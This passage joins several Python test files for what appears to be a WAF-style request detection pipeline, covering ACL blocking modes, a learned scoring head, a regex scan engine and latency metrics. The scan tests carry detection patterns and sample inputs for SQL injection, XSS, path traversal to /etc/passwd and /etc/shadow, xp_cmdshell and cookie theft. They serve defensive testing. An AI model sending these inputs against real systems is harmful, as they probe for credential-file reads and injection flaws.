def test_acl_deny_monitoring_flags_not_blocks(ruleset):
    p = DetectionPipeline(ruleset, mode="monitoring", default_acl="main")
    p.acl_store.swap({"main": {"deny": ["203.0.113.0/24"]}})
    v = p.detect([_benign(ip="203.0.113.9")])[0]
    assert v.attack and "acl" in v.classes and not v.blocked


def test_acl_allow_exempts_detection_block(ruleset):
    """Allowlisted sources are monitored but never blocked (the
    reference ACL allow semantics)."""
    p = DetectionPipeline(ruleset, mode="block", default_acl="main")
    p.acl_store.swap({"main": {"allow": ["198.51.100.0/24"]}})
    v = p.detect([_attack(ip="198.51.100.7")])[0]
    assert v.attack and not v.blocked
    v = p.detect([_attack(ip="203.0.113.7")])[0]   # not allowlisted
    assert v.attack and v.blocked


def test_acl_tenant_binding(ruleset):
    p = DetectionPipeline(ruleset, mode="block",
                          tenant_acl={7: "strict"})
    p.acl_store.swap({"strict": {"deny": ["0.0.0.0/0"]}})
    r = _benign(ip="203.0.113.9")
    r.tenant = 7
    assert p.detect([r])[0].blocked
    r2 = _benign(ip="203.0.113.9")   # tenant 0: no binding, no default
    assert not p.detect([r2])[0].blocked


def test_acl_unknown_name_fails_open(ruleset):
    p = DetectionPipeline(ruleset, mode="block", default_acl="missing")
    v = p.detect([_benign(ip="203.0.113.9")])[0]
    assert not v.blocked


# ------------------------------------------------------- safe_blocking

def test_safe_blocking_blocks_only_greylisted(ruleset):
    p = DetectionPipeline(ruleset, mode="safe_blocking")
    assert not p.detect([_attack()])[0].blocked          # attack flagged
    assert p.detect([_attack()])[0].attack               # ... monitored
    assert p.detect([_attack(grey=True)])[0].blocked     # greylisted: block
    assert not p.detect([_benign()])[0].blocked


def test_safe_blocking_via_acl_greylist(ruleset):
    p = DetectionPipeline(ruleset, mode="safe_blocking", default_acl="g")
    p.acl_store.swap({"g": {"greylist": ["203.0.113.0/24"]}})
    assert p.detect([_attack(ip="203.0.113.5")])[0].blocked
    assert not p.detect([_attack(ip="198.51.100.5")])[0].blocked


def test_request_mode_weakens_global(ruleset):
    """Per-location mode can only weaken: global block + request
    safe_blocking (wire 3) → safe_blocking semantics; global
    safe_blocking + request block → still safe_blocking."""
    p = DetectionPipeline(ruleset, mode="block")
    assert not p.detect([_attack(mode=3)])[0].blocked
    assert p.detect([_attack(mode=3, grey=True)])[0].blocked
    p2 = DetectionPipeline(ruleset, mode="safe_blocking")
    assert not p2.detect([_attack(mode=2)])[0].blocked
    assert p2.detect([_attack(mode=2, grey=True)])[0].blocked
    # monitoring request mode still weakest
    assert not p.detect([_attack(mode=1, grey=True)])[0].blocked


# ------------------------------------------------------- wire plumbing

def test_wire_greylist_bit_and_client_ip_header():
    req = Request(method="GET", uri="/x", headers={
        "host": "h", CLIENT_IP_HEADER: "203.0.113.7"},
        greylisted=True, request_id="1")
    frame = encode_request(req, req_id=9, mode=3)
    req_id, mode, out = decode_request(frame[8:])
    assert req_id == 9
    assert mode == 3                       # greylist bit stripped
    assert out.greylisted is True
    assert out.client_ip == "203.0.113.7"
    # the trusted header must NOT survive into scannable headers
    assert all(k.lower() != CLIENT_IP_HEADER for k in out.headers)


def test_wire_mode_greylist_bit_value():
    # bit 2 must not collide with mode bits (0-1), parser bits (3-6) or
    # the stream bit (7)
    from ingress_plus_tpu.serve.protocol import MODE_STREAM, PARSER_OFF_BITS
    taken = 0x03 | MODE_STREAM
    for b in PARSER_OFF_BITS.values():
        taken |= b
    assert MODE_GREYLIST & taken == 0
