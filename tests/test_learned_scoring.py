"""Learned scoring lane (ingress_plus_tpu/learn, docs/LEARNED_SCORING.md).

Covers the ISSUE 8 acceptance surface that is unit-testable fast (the
staged-rollout integration lives in tests/test_rollout.py): trainer
determinism and artifact-hash stability, matmul-vs-reference scoring
parity, zero-new-FN threshold calibration, rule-id remap across a pack
swap, artifact schema/tamper rejection, the pipeline's fixed-vs-learned
divergence accounting, and the bounded per-request bitmap capture ring.
"""

import json

import numpy as np
import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.rollout import (
    _DRILL_CANDIDATE,
    _DRILL_INCUMBENT,
)
from ingress_plus_tpu.learn.features import FeatureDataset, remap_columns
from ingress_plus_tpu.learn.head import (
    LearnedScorer,
    ScoringHead,
    load_lkg_scorer,
    persist_lkg_scorer,
)
from ingress_plus_tpu.learn.train import (
    TrainConfig,
    calibrate_threshold,
    compare_scorers,
    fixed_flags,
    train_from_dataset,
    train_head,
)
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.models.rule_stats import BitmapRing, RuleStats
from ingress_plus_tpu.serve.normalize import Request


@pytest.fixture(scope="module")
def packs():
    return {
        "inc": compile_ruleset(parse_seclang(_DRILL_INCUMBENT)),
        "cand": compile_ruleset(parse_seclang(_DRILL_CANDIDATE)),
    }


def _synthetic_dataset(n=400, f=24, seed=9):
    """Separable-ish synthetic activation data: attacks co-activate the
    first features, benign rows activate a 'prose' feature the fixed
    weights over-score — the FP class the head must learn away."""
    rng = np.random.default_rng(seed)
    x = np.zeros((n, f), dtype=np.uint8)
    y = np.zeros((n,), dtype=np.uint8)
    for i in range(n):
        if i % 3 == 0:
            y[i] = 1
            x[i, rng.integers(0, 4)] = 1
            x[i, 4 + rng.integers(0, 4)] = 1
        elif i % 7 == 0:
            x[i, 8] = 1          # benign prose hit (fixed-weight FP)
    rule_ids = np.arange(942100, 942100 + f, dtype=np.int64)
    rule_score = np.full((f,), 3, dtype=np.int64)
    return FeatureDataset(x=x, y=y, rule_ids=rule_ids,
                          rule_score=rule_score, anomaly_threshold=3)


# -------------------------------------------------------------- features

def test_remap_columns_by_rule_id():
    x = np.array([[1, 2, 3]], dtype=np.float32)
    out, cov = remap_columns(x, [10, 20, 30], [30, 99, 10])
    assert out.tolist() == [[3.0, 0.0, 1.0]]
    assert cov == pytest.approx(2 / 3)
    # duplicate target ids all receive the source column
    out2, cov2 = remap_columns(x, [10, 20, 30], [20, 20])
    assert out2.tolist() == [[2.0, 2.0]]
    assert cov2 == pytest.approx(1 / 3)


def test_feature_dataset_roundtrip_and_tamper(tmp_path):
    ds = _synthetic_dataset()
    path = tmp_path / "ds"
    ds.save(path)
    back = FeatureDataset.load(path)
    assert back.fingerprint() == ds.fingerprint()
    assert (back.x == ds.x).all() and (back.y == ds.y).all()
    assert back.anomaly_threshold == ds.anomaly_threshold
    # tampered arrays no longer match the recorded content hash
    np.savez_compressed(path.with_suffix(".npz"), x=ds.x * 0, y=ds.y,
                        rule_ids=ds.rule_ids, rule_score=ds.rule_score)
    with pytest.raises(ValueError, match="hash mismatch"):
        FeatureDataset.load(path)


def test_feature_dataset_remap_to_new_pack(packs):
    ds = _synthetic_dataset()
    new_ids = [942100, 999999]       # one shared, one alien
    ds2 = ds.remap(new_ids)
    assert ds2.x.shape == (ds.n, 2)
    assert (ds2.x[:, 0] == ds.x[:, 0]).all()
    assert not ds2.x[:, 1].any()


# --------------------------------------------------------------- trainer

def test_trainer_deterministic_and_hash_stable():
    ds = _synthetic_dataset()
    h1 = train_from_dataset(ds, TrainConfig(iters=120))
    h2 = train_from_dataset(ds, TrainConfig(iters=120))
    assert (h1.weights == h2.weights).all()
    assert h1.bias == h2.bias and h1.threshold == h2.threshold
    assert h1.fingerprint() == h2.fingerprint()
    assert h1.version == h2.version
    # a different config IS a different artifact
    h3 = train_from_dataset(ds, TrainConfig(iters=121))
    assert h3.fingerprint() != h1.fingerprint()


def test_trainer_drops_empty_rows():
    ds = _synthetic_dataset()
    w, b = train_head(ds.x, ds.y, TrainConfig(iters=50))
    assert w.shape == (ds.n_features,)
    assert np.isfinite(w).all() and np.isfinite(b)
    with pytest.raises(ValueError, match="no rows"):
        train_head(np.zeros((4, 8)), np.zeros((4,)), TrainConfig())


def test_calibration_zero_new_fn():
    ds = _synthetic_dataset()
    head = train_from_dataset(ds, TrainConfig(iters=200))
    margins = ds.x.astype(np.float64) @ head.weights.astype(np.float64) \
        + head.bias
    baseline = fixed_flags(ds)
    anyhit = ds.x.any(axis=1)
    learned = (margins >= head.threshold) & anyhit
    y = ds.y.astype(bool)
    # every baseline-detected attack stays detected (the constraint)
    assert not (baseline & y & ~learned).any()
    # and the learned head drops the benign prose FPs entirely
    cmp = compare_scorers(ds, head)
    assert cmp["new_fn_vs_fixed"] == 0
    assert cmp["fixed"]["fp"] > 0
    assert cmp["learned"]["fp"] < cmp["fixed"]["fp"]
    assert cmp["fp_reduction"] > 0
    assert len(cmp["calibration_curve"]) >= 3


def test_calibrate_threshold_degenerate_paths():
    # no baseline-detected attacks: flag nothing benign
    m = np.array([1.0, 2.0, 3.0])
    y = np.array([0, 0, 0])
    anyhit = np.array([True, True, True])
    t = calibrate_threshold(m, y, np.zeros(3, bool), anyhit)
    assert t > 3.0
    # empty activation space entirely
    assert calibrate_threshold(m, y, np.zeros(3, bool),
                               np.zeros(3, bool)) == 0.0


# -------------------------------------------------------------- artifact

def test_head_roundtrip_and_tamper_rejection(tmp_path):
    ds = _synthetic_dataset()
    head = train_from_dataset(ds, TrainConfig(iters=80))
    path = tmp_path / "head"
    head.save(path)
    back = ScoringHead.load(path)
    assert back.fingerprint() == head.fingerprint()
    assert back.threshold == head.threshold
    assert back.provenance["dataset"] == ds.fingerprint()
    # tampered weights: content hash mismatch
    np.savez_compressed(path.with_suffix(".npz"),
                        rule_ids=head.rule_ids,
                        weights=head.weights * 2.0)
    with pytest.raises(ValueError, match="hash mismatch"):
        ScoringHead.load(path)
    # wrong kind / schema
    meta = json.loads(path.with_suffix(".json").read_text())
    meta["kind"] = "not_a_head"
    path.with_suffix(".json").write_text(json.dumps(meta))
    with pytest.raises(ValueError, match="kind"):
        ScoringHead.load(path)


def test_head_schema_validation():
    with pytest.raises(ValueError, match="length mismatch"):
        ScoringHead(rule_ids=[1, 2], weights=[0.5], bias=0.0,
                    threshold=1.0).validate()
    with pytest.raises(ValueError, match="non-finite"):
        ScoringHead(rule_ids=[1], weights=[np.nan], bias=0.0,
                    threshold=1.0).validate()
    with pytest.raises(ValueError, match="non-finite"):
        ScoringHead(rule_ids=[1], weights=[1.0], bias=0.0,
                    threshold=float("inf")).validate()
    with pytest.raises(ValueError, match="empty"):
        ScoringHead(rule_ids=[], weights=[], bias=0.0,
                    threshold=1.0).validate()


def test_scorer_lkg_roundtrip_and_corruption(tmp_path):
    ds = _synthetic_dataset()
    head = train_from_dataset(ds, TrainConfig(iters=60))
    persist_lkg_scorer(head, tmp_path)
    back = load_lkg_scorer(tmp_path)
    assert back is not None and back.version == head.version
    # corrupt pointer → None, never a crash (startup must serve)
    (tmp_path / "LKG_SCORER").write_text("{broken json")
    assert load_lkg_scorer(tmp_path) is None
    assert load_lkg_scorer(tmp_path / "nonexistent") is None


# ------------------------------------------------ scoring parity/serving

def test_matmul_vs_reference_parity(packs):
    ds = _synthetic_dataset()
    head = train_from_dataset(ds, TrainConfig(iters=80))
    # bind to the dataset's own axis via a synthetic ruleset-like shim
    scorer = LearnedScorer(head, _RulesetShim(ds.rule_ids))
    rng = np.random.default_rng(4)
    bitmap = (rng.random((64, ds.n_features)) < 0.1)
    dense = scorer.score_batch(bitmap)
    for qi in range(bitmap.shape[0]):
        sparse = scorer.score_confirmed(list(np.nonzero(bitmap[qi])[0]))
        assert dense[qi] == pytest.approx(sparse, abs=1e-4)
    # empty bitmap row scores exactly the bias in both forms
    assert scorer.score_confirmed([]) == pytest.approx(scorer.bias)
    assert scorer.score_batch(np.zeros((1, ds.n_features), bool))[0] \
        == pytest.approx(scorer.bias, abs=1e-6)


class _RulesetShim:
    def __init__(self, rule_ids):
        self.rule_ids = np.asarray(rule_ids, dtype=np.int64)
        self.version = "shim"


def test_duplicate_rule_id_binding_is_positional():
    """A multi-row rule repeats one CRS id with distinct per-row
    weights: binding onto the SAME axis must be bit-exact (the serving
    score is what calibration gated — reviewer catch: first-occurrence
    collapse silently re-introduced FNs), and a cross-pack remap pairs
    duplicate occurrences in order."""
    ids = np.array([942520, 942520, 941100], dtype=np.int64)
    head = ScoringHead(rule_ids=ids, weights=[0.1, 2.0, 1.0], bias=0.0,
                       threshold=1.5, version="dup-1")
    scorer = LearnedScorer(head, _RulesetShim(ids))
    assert scorer.coverage == 1.0
    assert scorer.w.tolist() == pytest.approx([0.1, 2.0, 1.0])
    assert scorer.score_confirmed([1]) == pytest.approx(2.0)
    # cross-pack, same duplicate structure in a different order
    out, cov = remap_columns(np.array([[0.1, 2.0, 1.0]]), ids,
                             [941100, 942520, 942520])
    assert out[0].tolist() == pytest.approx([1.0, 0.1, 2.0])
    assert cov == 1.0
    # target carries MORE occurrences than the source: extras fall
    # back to the first source occurrence, never to garbage
    out2, _ = remap_columns(np.array([[0.1, 2.0]]), [942520, 942520],
                            [942520, 942520, 942520])
    assert out2[0].tolist() == pytest.approx([0.1, 2.0, 0.1])


def _drill_head(packs, threshold, w_sqli=4.0, w_xss=4.0):
    """Hand-built head over the drill pack's two CRS ids."""
    return ScoringHead(rule_ids=[942100, 941100],
                       weights=[w_sqli, w_xss], bias=0.0,
                       threshold=threshold, version="t-%s" % threshold)


ATTACK = Request(uri="/search?q=1+union+select+password",
                 request_id="atk-1")
BENIGN = Request(uri="/benign?q=cats", request_id="ben-1")


def test_pipeline_scorer_divergence_and_exports(packs):
    # fixed weights flag the attack (CRITICAL=5 >= threshold 5); a head
    # with an unreachable threshold passes it → learned_pass divergence
    p = DetectionPipeline(packs["inc"], mode="block",
                          scoring_head=_drill_head(packs, threshold=99.0))
    assert p.scorer is not None and p.scorer.coverage == 1.0
    v_atk, v_ben = p.detect([ATTACK, BENIGN])
    assert not v_atk.attack and not v_atk.blocked
    assert v_atk.score >= 5                  # fixed score still exported
    assert v_atk.learned_score == pytest.approx(4.0)
    assert v_ben.learned_score == pytest.approx(0.0)
    assert p.stats.scorer_diff == {"learned_pass": 1}
    assert v_atk.generation == packs["inc"].version + "+t-99.0"
    # a reachable threshold agrees with the fixed weights: no diff
    p2 = DetectionPipeline(packs["inc"], mode="block",
                           scoring_head=_drill_head(packs, threshold=3.0))
    v_atk2, v_ben2 = p2.detect([ATTACK, BENIGN])
    assert v_atk2.attack and v_atk2.blocked
    assert not v_ben2.attack
    assert p2.stats.scorer_diff == {}


def test_pipeline_without_head_unchanged(packs):
    p = DetectionPipeline(packs["inc"], mode="block")
    v = p.detect([ATTACK])[0]
    assert v.attack and v.learned_score is None
    assert v.generation == packs["inc"].version
    assert p.stats.scorer_diff == {}


def test_rule_id_remap_across_pack_swap(packs):
    head = _drill_head(packs, threshold=3.0)
    p = DetectionPipeline(packs["inc"], mode="block", scoring_head=head)
    w_inc = p.scorer.w.copy()
    idx_inc = int(np.nonzero(packs["inc"].rule_ids == 942100)[0][0])
    assert w_inc[idx_inc] == pytest.approx(4.0)
    # swap to the candidate pack (superset, different row order
    # possible): the head re-binds by rule id, verdicts keep scoring
    p.swap_ruleset(packs["cand"])
    assert p.scorer is not None
    assert p.scorer.coverage == 1.0
    idx_cand = int(np.nonzero(packs["cand"].rule_ids == 942100)[0][0])
    assert p.scorer.w[idx_cand] == pytest.approx(4.0)
    # the new pack's extra rule carries zero learned weight
    idx_new = int(np.nonzero(packs["cand"].rule_ids == 955100)[0][0])
    assert p.scorer.w[idx_new] == 0.0
    v = p.detect([ATTACK])[0]
    assert v.attack and v.learned_score == pytest.approx(4.0)
    assert v.generation == packs["cand"].version + "+" + head.version
    # set_scoring_head(None) restores the fixed-weight generation
    p.set_scoring_head(None)
    assert p.scorer is None
    assert p.detect([ATTACK])[0].generation == packs["cand"].version


# ---------------------------------------------------------- capture ring

def test_capture_ring_bounded_and_reset(packs):
    rs = RuleStats(packs["inc"])
    r = int(packs["inc"].n_rules)
    ring = rs.enable_capture(cap_bytes=8 * (2 * ((r + 7) // 8)))
    assert ring.capacity == 8
    hits = np.zeros((4, r), dtype=bool)
    hits[:, 0] = True
    for _ in range(4):          # 16 requests through an 8-slot ring
        rs.observe_finalize(hits, [0], [False],
                            confirmed_rows=[[0], [], [], []])
    assert len(ring) == 8
    assert ring.appended == 16 and ring.dropped == 8
    cand, conf = rs.capture_snapshot()
    assert cand.shape == (8, r) and conf.shape == (8, r)
    assert cand[:, 0].all()
    assert conf[0, 0] and not conf[1].any()     # row pattern preserved
    # without per-request confirmed rows the ring stays silent
    rs.observe_finalize(hits, [0], [False])
    assert len(ring) == 8 and ring.appended == 16
    # reset (the warmup hook) empties the ring with the counters
    rs.reset()
    assert len(ring) == 0 and ring.appended == 0
    rs.disable_capture()
    assert rs.capture is None


def test_bitmap_ring_snapshot_empty():
    ring = BitmapRing(16, cap_bytes=64)
    cand, conf = ring.snapshot()
    assert cand.shape == (0, 16) and conf.shape == (0, 16)


def test_capture_feeds_feature_export(packs):
    from ingress_plus_tpu.utils.export_corpus import build_feature_dataset

    ds = build_feature_dataset(n=48, seed=5, ruleset=packs["inc"],
                               include_fixtures=False, batch=16)
    assert ds.n == 48
    assert ds.n_features == packs["inc"].n_rules
    assert (ds.rule_ids == np.asarray(packs["inc"].rule_ids)).all()
    assert ds.x_candidates is not None
    # candidates over-approximate confirms on every row
    assert (ds.x_candidates.astype(bool) | ~ds.x.astype(bool)).all()
    assert len(ds.request_ids) == 48
    # attacks that confirmed carry hits; labels line up with the corpus
    assert ds.y.sum() > 0
