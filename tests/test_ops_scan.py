"""Differential tests: jnp scan engine vs the numpy bitap oracle.

The fake-backend analog from SURVEY.md §4: identical recurrence on CPU
(JAX_PLATFORMS=cpu via conftest) so CI needs no TPU.
"""

import random

import numpy as np
import pytest

from ingress_plus_tpu.compiler.bitap import reference_scan
from ingress_plus_tpu.compiler.factors import best_factor_group
from ingress_plus_tpu.compiler.regex_ast import parse_regex
from ingress_plus_tpu.compiler.bitap import pack_factors
from ingress_plus_tpu.ops.scan import ScanTables, pad_rows, scan_bytes


PATTERNS = [
    r"union\s+select",
    r"(?i)<script[^>]*>",
    r"\.\./(?:\.\./)*etc/passwd",
    r"eval\s*\(",
    r"onerror\s*=",
    r"/etc/(?:passwd|shadow|group)",
    r"(?i)x(?:p_cmdshell|p_dirtree)",
    r"document\.(?:cookie|location)",
]


@pytest.fixture(scope="module")
def tables():
    groups = [best_factor_group(parse_regex(p)) for p in PATTERNS]
    return pack_factors(groups)


def corpus(rng, n=60):
    snippets = [
        b"1 union select 2", b"<SCRIPT src=x>", b"../../etc/passwd",
        b"eval (x)", b"<img onerror =a>", b"/etc/shadow", b"XP_CMDSHELL",
        b"document.cookie",
    ]
    out = list(snippets)
    for _ in range(n):
        base = bytes(rng.randrange(32, 127) for _ in range(rng.randrange(0, 90)))
        if rng.random() < 0.5:
            s = rng.choice(snippets)
            k = rng.randrange(0, len(base) + 1)
            base = base[:k] + s + base[k:]
        out.append(base)
    return out


def test_batch_matches_oracle(tables):
    st = ScanTables.from_bitap(tables)
    rng = random.Random(3)
    rows = corpus(rng)
    tokens, lengths = pad_rows(rows)
    match, state = scan_bytes(st, tokens, lengths)
    match = np.asarray(match)
    for i, row in enumerate(rows):
        want = reference_scan(tables, row)
        assert (match[i] == want).all(), "row %d %r" % (i, row)


def test_empty_and_full_padding(tables):
    st = ScanTables.from_bitap(tables)
    tokens, lengths = pad_rows([b"", b"/etc/passwd"])
    match, _ = scan_bytes(st, tokens, lengths)
    match = np.asarray(match)
    assert (match[0] == 0).all()
    assert (match[1] == reference_scan(tables, b"/etc/passwd")).all()


def test_streaming_chunks_equal_contiguous(tables):
    """Chunked scan with state carry == one contiguous scan (config #5)."""
    st = ScanTables.from_bitap(tables)
    rng = random.Random(9)
    rows = corpus(rng, n=20)
    # contiguous
    tokens, lengths = pad_rows(rows)
    want, _ = scan_bytes(st, tokens, lengths)
    want = np.asarray(want)
    # chunked: split each row at arbitrary points, carry (state, match)
    state = match = None
    n_chunks = 4
    maxlen = max(len(r) for r in rows)
    chunk = (maxlen + n_chunks - 1) // n_chunks
    for c in range(n_chunks):
        part = [r[c * chunk : (c + 1) * chunk] for r in rows]
        tokens_c, lengths_c = pad_rows(part, max_len=chunk)
        got_m, state = scan_bytes(st, tokens_c, lengths_c, state=state, match=match)
        match = got_m
    got = np.asarray(match)
    assert (got == want).all(), "streaming mismatch"


def test_match_spanning_chunk_boundary(tables):
    """An attack split across a chunk boundary must still match."""
    st = ScanTables.from_bitap(tables)
    a, b = b"GET /etc/pas", b"swd HTTP/1.1"
    t1, l1 = pad_rows([a])
    m, s = scan_bytes(st, t1, l1)
    t2, l2 = pad_rows([b])
    m, s = scan_bytes(st, t2, l2, state=s, match=m)
    want = reference_scan(tables, a + b)
    assert (np.asarray(m)[0] == want).all()
    assert np.asarray(m)[0].any(), "boundary-spanning match lost"


def test_jit_cache_stable_shapes(tables):
    import jax

    st = ScanTables.from_bitap(tables)
    f = jax.jit(scan_bytes)
    tokens, lengths = pad_rows([b"abc", b"defg"])
    m1, _ = f(st, tokens, lengths)
    tokens2, lengths2 = pad_rows([b"/etc/passwd", b"zz"])
    m2, _ = f(st, tokens2, lengths2)  # same shapes → cached executable
    assert np.asarray(m2)[0].any()


def test_scan_pairs_match_parity(tables):
    """scan_pairs is the default request hot path (detect_rows auto-selects
    it when state is None): pin its match output to scan_bytes on random
    tokens/lengths — zero/short/odd lengths and a seeded sticky match
    accumulator included.  (state parity is NOT in the contract for short
    rows; see the scan_pairs docstring.)"""
    from ingress_plus_tpu.ops.scan import scan_pairs

    st = ScanTables.from_bitap(tables)
    rng = random.Random(11)
    rows = corpus(rng, n=40)
    # force the interesting length classes: empty, single byte, odd tails
    rows += [b"", b"u", b"union select"[:11], b"../../etc/passwd"[:7]]
    tokens, lengths = pad_rows(rows)
    B, W = tokens.shape[0], st.n_words

    m_bytes, _ = scan_bytes(st, tokens, lengths)
    m_pairs, _ = scan_pairs(st, tokens, lengths)
    assert (np.asarray(m_bytes) == np.asarray(m_pairs)).all()

    # seeded sticky accumulator must be OR-preserved identically
    seed = np.asarray(
        [[rng.getrandbits(32) for _ in range(W)] for _ in range(B)],
        dtype=np.uint32)
    import jax.numpy as jnp
    m_b2, _ = scan_bytes(st, tokens, lengths, match=jnp.asarray(seed))
    m_p2, _ = scan_pairs(st, tokens, lengths, match=jnp.asarray(seed))
    assert (np.asarray(m_b2) == np.asarray(m_p2)).all()
    assert (np.asarray(m_b2) & seed == seed).all()  # sticky
