"""Latency-attribution layer units (ISSUE 1): Histogram bucket math,
Prometheus rendering, the text→percentile round trip bench.py relies on,
the slow-exemplar ring, and the bench scrape path WITHOUT a server."""

import math

from ingress_plus_tpu.utils.trace import (
    DEFAULT_BUCKETS_US,
    STAGES,
    BatchTrace,
    Histogram,
    SlowRing,
    TraceRing,
    stage_breakdown_from_metrics,
)


# -------------------------------------------------------------- Histogram

def test_bucket_assignment_log2_edges():
    h = Histogram()
    # exact bucket math on the log2 edges: observe(b) lands in the
    # bucket whose upper bound is b (le semantics), observe(b+1) in the
    # next one
    h.observe(1)
    h.observe(2)
    h.observe(3)
    h.observe(4)
    counts, total, sum_us = h.snapshot()
    assert total == 4 and sum_us == 10
    assert counts[0] == 1          # le=1
    assert counts[1] == 1          # le=2
    assert counts[2] == 2          # 3 and 4 both land in le=4
    # overflow: beyond the last bound goes to +Inf
    h.observe(DEFAULT_BUCKETS_US[-1] + 1)
    assert h.snapshot()[0][-1] == 1


def test_percentiles_interpolated_and_bounded():
    h = Histogram()
    for _ in range(100):
        h.observe(100)             # all in the (64, 128] bucket
    p50 = h.percentile(0.5)
    assert 64 <= p50 <= 128
    assert h.percentile(0.99) <= 128
    # empty histogram: 0, never NaN
    assert Histogram().percentile(0.5) == 0.0
    assert not math.isnan(p50)


def test_prometheus_rendering_cumulative_and_labeled():
    h = Histogram(bounds=(1, 10, 100))
    for v in (1, 5, 50, 500):
        h.observe(v)
    lines = h.prometheus("ipt_stage_us", {"stage": "scan"})
    assert 'ipt_stage_us_bucket{stage="scan",le="1"} 1' in lines
    assert 'ipt_stage_us_bucket{stage="scan",le="10"} 2' in lines
    assert 'ipt_stage_us_bucket{stage="scan",le="100"} 3' in lines
    assert 'ipt_stage_us_bucket{stage="scan",le="+Inf"} 4' in lines
    assert 'ipt_stage_us_sum{stage="scan"} 556' in lines
    assert 'ipt_stage_us_count{stage="scan"} 4' in lines
    # unlabeled series render without braces on _sum/_count
    plain = Histogram(bounds=(1,)).prometheus("ipt_batch_size")
    assert "ipt_batch_size_sum 0" in plain


def test_text_roundtrip_matches_live_percentiles():
    """The parser must recover the same percentiles the live Histogram
    reports — this is the bench stage_breakdown contract."""
    hists = {s: Histogram() for s in STAGES}
    for i in range(200):
        for s in STAGES:
            hists[s].observe((i % 37 + 1) * 10)
    lines = ["# TYPE ipt_stage_us histogram"]
    for s, h in hists.items():
        lines += h.prometheus("ipt_stage_us", {"stage": s})
    sb = stage_breakdown_from_metrics("\n".join(lines))
    assert sb is not None and set(sb) == set(STAGES)
    for s in STAGES:
        assert sb[s]["count"] == 200
        # parser rounds to 0.1µs; live percentile is exact
        assert abs(sb[s]["p50_us"] - hists[s].percentile(0.5)) < 0.06
        assert abs(sb[s]["p99_us"] - hists[s].percentile(0.99)) < 0.06


def test_malformed_metrics_is_none_not_garbage():
    assert stage_breakdown_from_metrics("") is None
    assert stage_breakdown_from_metrics("ipt_requests_total 5\n") is None
    # non-monotonic cumulative counts = malformed histogram
    bad = ('ipt_stage_us_bucket{stage="queue",le="1"} 5\n'
           'ipt_stage_us_bucket{stage="queue",le="2"} 3\n')
    assert stage_breakdown_from_metrics(bad) is None
    # unparsable le
    bad2 = 'ipt_stage_us_bucket{stage="queue",le="wat"} 5\n'
    assert stage_breakdown_from_metrics(bad2) is None
    # truncated text where only the +Inf bucket survived: malformed →
    # None, never an IndexError (dbg latency calls this bare)
    bad3 = 'ipt_stage_us_bucket{stage="e2e",le="+Inf"} 5\n'
    assert stage_breakdown_from_metrics(bad3) is None


def test_histogram_reset_drops_warmup_observations():
    h = Histogram()
    for _ in range(10):
        h.observe(1 << 20)     # "warmup compile" observations
    h.reset()
    assert h.snapshot() == ([0] * (len(DEFAULT_BUCKETS_US) + 1), 0, 0)
    h.observe(100)
    assert h.percentile(0.99) <= 128


# --------------------------------------------------------------- SlowRing

def test_slow_ring_retains_k_slowest():
    r = SlowRing(capacity=4)
    assert r.threshold() == -1          # not full: accept everything
    for i in range(100):
        r.offer(i, {"request_id": "r%d" % i})
    snap = r.snapshot()
    assert [e["e2e_us"] for e in snap] == [99, 98, 97, 96]
    assert r.find_request("r99")["e2e_us"] == 99
    assert r.find_request("r0") is None            # displaced
    assert r.snapshot(2) == snap[:2]
    # threshold peek = smallest retained (the offer-skip fast path)
    assert r.threshold() == 96
    r.reset()
    assert r.snapshot() == [] and r.threshold() == -1


# ----------------------------------------------------- BatchTrace / ring

def test_batch_trace_stages_and_request_lookup():
    ring = TraceRing(capacity=4)
    t = BatchTrace(ts=1.0, n_requests=2, n_stream_items=0,
                   queue_delay_us=100, batch_us=1000, engine_us=600,
                   confirm_us=100, prep_us=200,
                   request_ids=["a", "b"])
    ring.record(t)
    st = t.stages()
    assert st["prep_us"] == 200 and st["scan_us"] == 600
    assert st["other_us"] == 100   # 1000 - 200 - 600 - 100
    found = ring.find_request("b")
    assert found is not None and found["stages"] == st
    assert ring.find_request("zz") is None
    # slowest() carries the stage breakdown too
    assert ring.slowest(1)[0]["stages"] == st


# ------------------------------------------- bench scrape path, no server

def test_bench_scrape_path_imports_without_server():
    """ISSUE 1 satellite: the bench stage_breakdown scrape must be
    importable and runnable with NO running server — a stub with
    _metrics_text() stands in for the live ServeLoop."""
    import bench

    class StubServe:
        def __init__(self, text):
            self._text = text

        def _metrics_text(self):
            return self._text

    hists = {s: Histogram() for s in STAGES}
    for i in range(50):
        hists["queue"].observe(10)
        hists["prep"].observe(20)
        hists["scan"].observe(100)
        hists["confirm"].observe(30)
        hists["batch"].observe(160)
        hists["e2e"].observe(170)
    lines = ["# TYPE ipt_stage_us histogram"]
    for s, h in hists.items():
        lines += h.prometheus("ipt_stage_us", {"stage": s})
    sb = bench.scrape_stage_breakdown(StubServe("\n".join(lines)))
    assert sb is not None
    assert set(STAGES) <= set(sb)
    # the decomposition check: stage sum ≈ e2e within the log-bucket
    # slack (every stage here is a point mass, so within 2x)
    chk = sb["sum_check"]
    assert 0.5 < chk["stage_sum_over_e2e_p99_us"] < 2.0
    # malformed/missing histograms → None (the loud-warning contract)
    assert bench.scrape_stage_breakdown(StubServe("nope 1\n")) is None


def test_dbg_render_latency_on_real_shapes():
    """`dbg latency` rendering consumes real endpoint payload shapes
    (metrics text + /debug/slow JSON + sidecar status JSON)."""
    from ingress_plus_tpu.control.dbg import render_latency

    h = Histogram()
    for _ in range(10):
        h.observe(500)
    text = "# TYPE ipt_stage_us histogram\n" + "\n".join(
        h.prometheus("ipt_stage_us", {"stage": "e2e"}))
    slow = {"slowest": [{"request_id": "41", "e2e_us": 900,
                         "queue_us": 100,
                         "batch": {"prep_us": 50, "scan_us": 700,
                                   "confirm_us": 50},
                         "rule_ids": [942100]}]}
    sidecar = {"pending": 0, "late_responses": 0,
               "upstreams": [{"path": "/run/s.sock", "ewma_ms": 1.25,
                              "inflight": 2}]}
    out = render_latency(text, slow, sidecar)
    assert "e2e" in out and "41" in out and "942100" in out
    assert "ewma_ms=1.250" in out
    # missing histograms: explicit, not a crash
    out2 = render_latency("", {"slowest": []})
    assert "MISSING" in out2
