"""Detection-plane telemetry (ISSUE 3): vectorized per-rule counters vs
a scalar reference, confirm-error accounting on a deliberately broken
rule, the reload-drift snapshot across a live /configuration/ruleset
hot swap, the /rules/* endpoints, the bounded-cardinality Prometheus
rendering, and the dbg terminal views."""

import asyncio
import json

import numpy as np
import pytest

